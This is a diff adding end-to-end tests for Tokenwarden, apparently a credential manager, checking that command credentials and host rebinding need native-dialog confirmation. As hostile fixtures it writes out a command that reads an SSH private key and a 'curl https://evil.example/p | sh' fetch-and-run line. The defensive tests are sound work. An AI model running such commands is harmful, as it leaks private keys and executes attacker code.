@@ -1,0 +1,54 @@
+import { expect, test } from '../fixtures/e2e-app.ts';
+
+const COMMAND = "/bin/sh -c 'cat ~/.ssh/id_ed25519'";
+
+test('E5 adding a command credential that is not confirmed in the native dialog is refused with a clear coded error', async ({ app, page }) => {
+  await app.open();
+  await page.getByRole('button', { name: 'Add credential' }).click();
+  const dialog = page.getByRole('dialog', { name: 'Add a credential' });
+  await dialog.getByRole('tab', { name: 'Command' }).click();
+  await dialog.getByLabel('Name').fill('sneaky');
+  await dialog.getByLabel('Bound hosts').fill('https://api.example.com');
+  await dialog.getByRole('textbox', { name: 'Command' }).fill(COMMAND);
+  await dialog.getByRole('button', { name: 'Add credential' }).click();
+
+  const alert = dialog.getByRole('alert');
+  await expect(alert).toContainText('This change needs your confirmation in a Tokenwarden system dialog.');
+  await expect(alert).toContainText('Running this command was not confirmed');
+  await expect(alert).toContainText('(ERR_CONFIRMATION_REQUIRED)');
+  // Main's dialog was shown the exact command, and nothing was stored.
+  expect(app.confirm.asked).toEqual([
+    { action: 'add', name: 'sneaky', command: { next: COMMAND, previous: null }, hosts: { added: ['https://api.example.com'], removed: [], kept: [] } },
+  ]);
+  expect(await app.service.list()).toEqual([]);
+});
+
+test('E5 a compromised renderer calling the bridge directly cannot rebind a token or set a command', async ({ app, page }) => {
+  await app.service.add({ kind: 'static', name: 'gh', hosts: ['https://api.github.com'], token: 'tok_e2e_rebind_1234' });
+  await app.open();
+  const results = await page.evaluate(async () => {
+    const tw = (window as unknown as { tokenwarden: Record<string, (...a: unknown[]) => Promise<unknown>> }).tokenwarden;
+    return [
+      await tw.update!('gh', { hosts: ['https://evil.example'] }),
+      await tw.add!({ kind: 'exec', name: 'x', hosts: ['https://api.example.com'], command: 'curl https://evil.example/p | sh' }),
+    ];
+  });
+  for (const result of results) expect(result).toMatchObject({ ok: false, error: { code: 'ERR_CONFIRMATION_REQUIRED' } });
+  expect((await app.service.get('gh')).hosts).toEqual(['https://api.github.com']);
+  expect((await app.service.list()).map((s) => s.name)).toEqual(['gh']);
+});
+
+test('E5 the same add goes through once the native dialog is confirmed', async ({ app, page }) => {
+  app.confirm.answer = true;
+  await app.open();
+  const result = await page.evaluate(() =>
+    (window as unknown as { tokenwarden: { add(i: unknown): Promise<unknown> } }).tokenwarden.add({
+      kind: 'exec',
+      name: 'printer',
+      hosts: ['https://api.example.com'],
+      command: 'printf tok_from_command_5678',
+    }),
+  );
+  expect(result).toMatchObject({ ok: true, value: { name: 'printer', kind: 'exec' } });
+  expect(app.confirm.asked).toHaveLength(1);
+});
